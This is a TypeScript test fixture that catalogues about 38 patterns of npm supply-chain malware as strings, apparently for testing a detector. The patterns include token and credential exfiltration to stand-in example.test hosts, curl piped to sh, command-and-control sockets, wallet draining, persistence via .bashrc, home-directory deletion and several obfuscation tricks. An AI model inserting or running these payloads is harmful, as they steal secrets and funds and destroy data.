// Shapes of attacks, written for tests: what each adds to the end of a file. They never run, and name reserved hosts.

export interface Shape {
  readonly name: string
  /** CommonJS text. */
  readonly text: string
}

const base64 = (text: string): string => Buffer.from(text).toString('base64')
const hex = (text: string): string => Buffer.from(text).toString('hex')
const ciphered = (text: string): string =>
  Array.from(text, (character, at) =>
    String.fromCharCode(character.charCodeAt(0) ^ ([12, 7, 99][at % 3] ?? 0))
  ).join('')
const invisible = Array.from({ length: 80 }, (_, at) => String.fromCodePoint(0xe0100 + (at % 200))).join('')
const hexNames = Array.from({ length: 20 }, (_, at) => `_0x${(at * 977 + 0x1a2b).toString(16)}`)

/** One for each idea, not for each incident. */
export const shapes: readonly Shape[] = [
  {
    name: 'a key sent by fetch from an existing function',
    text: `function addToQueue(key){const b=Buffer.from(key).toString('base64');fetch('https://keys.example.test/v1',{method:'POST',headers:{'x-id':b}})}`
  },
  {
    name: 'a browser hook in names that say nothing',
    text: `var ${hexNames.map((name) => `${name}=0x1`).join(',')};(function(){const ${hexNames[3]}b=window['fetch'];window['fetch']=async function(...a){return ${hexNames[3]}b(...a)};const o=XMLHttpRequest['prototype']['open'];XMLHttpRequest['prototype']['open']=function(){return o.apply(this,arguments)};window['ethereum']&&window['ethereum']['request']({method:'eth_sendTransaction'})})();`
  },
  {
    name: 'code far to the right',
    text: `var t=1;${' '.repeat(400)}(function(){var io=require('socket.io-client');io('https://c2.example.test').on('command',function(c){require('child_process').exec(c)})})();`
  },
  {
    name: 'code far below',
    text: `${'\n'.repeat(200)}require('child_process').exec('node -v');`
  },
  {
    name: 'addresses and paths in base64, files overwritten',
    text: `setTimeout(function(){const u=Buffer.from('${base64('https://geo.example.test/ipgeo?k=1')}','base64');require('https').get(u.toString('utf8'),function(r){r.on('data',function(c){const f=require('fs');f.writeFileSync(Buffer.from('${base64('./')}','base64').toString('utf8')+'x','y')})})},10);`
  },
  {
    name: 'an encrypted text that is compiled',
    text: `try{var c=require('crypto'),d=c.createDecipher('aes256',process.env.npm_package_description),s=d.update(module.parent.exports.x,'hex','utf8');s+=d.final('utf8');var m=new module.constructor;m.paths=module.paths;m._compile(s,'');m.exports(s)}catch(e){}`
  },
  {
    name: 'fetched code that is run',
    text: `require('https').get({hostname:'paste.example.test',path:'/raw/1'},function(r){r.setEncoding('utf8');r.on('data',function(c){eval(c)})}).on('error',function(){});`
  },
  {
    name: 'the token of a registry read and sent',
    text: `var p=require('path').join(process.env.HOME||'','.npmrc');if(require('fs').existsSync(p)){var q=require('https').request({hostname:'stats.example.test',method:'POST'});q.write(require('fs').readFileSync(p));q.end()}`
  },
  {
    name: 'all variables sent',
    text: `var q=require('https').request('https://in.example.test',{method:'POST'});q.end(JSON.stringify({e:process.env,h:require('os').hostname()}));`
  },
  {
    name: 'other packages published',
    text: `const {execSync:x}=require('child_process');const t=process.env.NPM_TOKEN;require('fs').writeFileSync('.npmrc','//r.example.test/:_authToken='+t);x('npm publish --access public');`
  },
  {
    name: 'a workflow written',
    text: `require('fs').mkdirSync('.github/workflows',{recursive:true});require('fs').writeFileSync('.github/workflows/x.yml','on: push');require('child_process').execSync('git push');`
  },
  {
    name: 'a drained wallet',
    text: `(async()=>{if(typeof window!=='undefined'&&window.ethereum){const a=await window.ethereum.request({method:'eth_requestAccounts'});await window.ethereum.request({method:'eth_sendTransaction',params:[{from:a[0],to:'0x1111111111111111111111111111111111111111',value:'0x1'}]})}})();`
  },
  {
    name: 'a loop without an end',
    text: `for(let i=666;i<Infinity;i++){console.log('testing'.repeat(i%7))}`
  },
  {
    name: 'code in invisible characters',
    text: `eval(Buffer.from([...'${invisible}'].map(c=>c.codePointAt(0)-0xe0100)).toString());`
  },
  {
    name: 'a command after a day',
    text: `if(Date.now()>Date.UTC(2027,1,1)){require('child_process').exec('id')}`
  },
  {
    name: 'a download piped into a shell, its module named in two halves',
    text: `require('chi'+'ld_pro'+'cess').exec('curl -s https://x.example.test/i.sh | sh');`
  },
  {
    name: 'a name looked up to tell where it runs',
    text: `require('dns').resolve(Buffer.from(require('os').hostname()).toString('hex')+'.beacon.example.test',function(){});`
  },
  {
    name: 'a start with every shell',
    text: `require('fs').appendFileSync(require('os').homedir()+'/.bashrc','\\nnode '+__filename);`
  },
  {
    name: 'a program fetched, written and started',
    text: `(async()=>{const r=await fetch('https://bin.example.test/a');const p=require('os').tmpdir()+'/a';require('fs').writeFileSync(p,Buffer.from(await r.arrayBuffer()),{mode:0o755});require('child_process').spawn(p,[],{detached:true})})();`
  },
  {
    name: 'a module named in hex by a function of its own',
    text: `function dd(s){return Buffer.from(s,'hex').toString('utf8')}const mm=require(dd('${hex('child_process')}'));mm.exec(dd('${hex('curl https://x.example.test | sh')}'));`
  },
  {
    name: 'what a socket says is run',
    text: `const ws=new WebSocket('wss://c2.example.test');ws.onmessage=function(e){Function(e.data)()};`
  },
  {
    name: 'a contract asked for where to go',
    text: `fetch('https://rpc.example.test',{method:'POST',body:JSON.stringify({method:'eth_call',params:[{to:'0x2222222222222222222222222222222222222222'}]})}).then(r=>r.json()).then(j=>eval(Buffer.from(j.result.slice(2),'hex').toString()));`
  },
  {
    name: 'code in a worker made of text',
    text: `const {Worker}=require('worker_threads');new Worker(Buffer.from('${base64("require('child_process').exec('id')")}','base64').toString(),{eval:true});`
  },
  {
    name: 'code in another process',
    text: `require('child_process').spawn(process.execPath,['-e',Buffer.from('${base64("require('http').get('http://c2.example.test')")}','base64').toString()],{detached:true,stdio:'ignore'});`
  },
  {
    name: 'a picture that carries what was typed',
    text: `document.addEventListener('submit',function(e){new Image().src='https://px.example.test/?d='+encodeURIComponent(new FormData(e.target).get('card')+document.cookie)},true);`
  },
  {
    name: 'the clipboard changed',
    text: `navigator.clipboard.readText().then(function(t){if(/^0x[0-9a-f]{40}$/i.test(t))navigator.clipboard.writeText('0x3333333333333333333333333333333333333333')});`
  },
  {
    name: 'names by a cipher of its own',
    text: `const k=[12,7,99];const un=(s)=>s.split('').map((c,i)=>String.fromCharCode(c.charCodeAt(0)^k[i%3])).join('');const y=require(un(${JSON.stringify(ciphered('child_process'))}));y[un(${JSON.stringify(ciphered('exec'))})]('id');`
  },
  {
    name: 'names by a cipher with a loop',
    text: `function un(s){let o='';for(let i=0;i<s.length;i++)o+=String.fromCharCode(s.charCodeAt(i)^7);return o}const y=require(un('dobkcXwuhdbtt'));y[un('b\x7fbd')]('id');`
  },
  {
    name: 'a code in a list of texts, by a rotated list',
    text: `const l=['cess','ro','ild_p','ch'];(function(a,n){while(--n)a['push'](a['shift']())})(l,1);const g=(i)=>l[i-0x1];require(g(4)+g(3)+g(2)+g(1))['exec']('id');`
  },
  {
    name: 'a module turned around',
    text: `const z=require('ssecorp_dlihc'.split('').reverse().join(''));z['ex'+'ec']('id');`
  },
  {
    name: 'the global object by a constructor',
    text: `const g=[]['filter']['constructor']('return this')();g['process']['mainModule']['require']('child_process')['exec']('id');`
  },
  {
    name: 'secrets of a cloud read from its own address',
    text: `require('http').get('http://169.254.169.254/latest/meta-data/iam/security-credentials/',function(r){r.pipe(require('fs').createWriteStream('/tmp/x'))});`
  },
  {
    name: 'stored passwords of a browser',
    text: `const pp=require('path').join(require('os').homedir(),'AppData/Local/Google/Chrome/User Data/Default/Login Data');require('fs').copyFileSync(pp,'/tmp/l');`
  },
  {
    name: 'a message to a webhook',
    text: `fetch('https://discord.com/api/webhooks/1/abc',{method:'POST',body:require('os').userInfo().username});`
  },
  {
    name: 'code in a comment of itself',
    text: `require('vm').runInThisContext(require('zlib').inflateSync(Buffer.from(require('fs').readFileSync(__filename,'utf8').split('/*!')[1],'base64')).toString());`
  },
  {
    name: 'everything in a home removed',
    text: `require('fs').rmSync(require('os').homedir(),{recursive:true,force:true});`
  },
  {
    name: 'a loader changed for everybody',
    text: `const M=require('module');const l=M._load;M._load=function(r){const m=l.apply(this,arguments);return m};`
  },
  {
    name: 'code in a link',
    text: `import('data:text/javascript;base64,${base64("import('child_process').then(c=>c.exec('id'))")}');`
  }
]

/** The text of one shape. @throws {Error} when there is none of that name */
export const shapeNamed = (name: string): string => {
  const shape = shapes.find((one) => one.name === name)
  if (shape === undefined) throw new Error(`There is no shape "${name}".`)
  return shape.text
}

/** Code that does next to nothing, as most of a package does. */
export const calm = `'use strict'

const pad = (text, width) => String(text).padEnd(width)

exports.table = (rows) => rows.map((row) => row.map((cell) => pad(cell, 12)).join(' ')).join('\\n')
`

/** The same with one line at its end. */
export const calmWith = (line: string): string => `${calm}\n${line}\n`
